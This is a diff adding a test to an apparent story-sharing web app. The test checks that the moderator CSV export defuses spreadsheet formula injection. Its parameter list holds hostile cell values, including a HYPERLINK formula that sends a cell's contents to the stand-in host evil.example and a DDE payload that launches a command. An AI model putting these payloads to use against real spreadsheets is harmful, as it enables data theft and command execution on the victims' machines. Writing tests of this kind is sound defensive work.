@@ -284,3 +284,18 @@ def test_purge_leaves_the_name_and_story_nowhere_in_the_database(client, share_p
     text = database_text()
     assert NAME.lower() not in text and WORDS not in text
 
+
+@pytest.mark.parametrize("hostile", [
+    '=HYPERLINK("http://evil.example/?"&B2,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
+])
+def test_csv_export_never_hands_a_spreadsheet_a_formula(client, share_page, moderator, hostile):
+    client.post("/stories/share/", valid_post(name=hostile[:100], support_that_helped=hostile,
+                                             story=hostile + " and then the group helped me a lot."))
+    client.force_login(moderator)
+    export = client.get(f"{LIST}?export=csv")
+    body = b"".join(export.streaming_content).decode() if export.streaming else export.content.decode()
+    row = list(csv.DictReader(io.StringIO(body)))[0]
+    for heading in ["Name", "Story", "Support that helped"]:
+        assert row[heading].startswith("'"), (heading, row[heading])
+        assert row[heading][1:].startswith(hostile.strip()[:10])  # the text is kept, only defused
+    assert row["Email"] == "robin@example.org"  # ordinary text is untouched
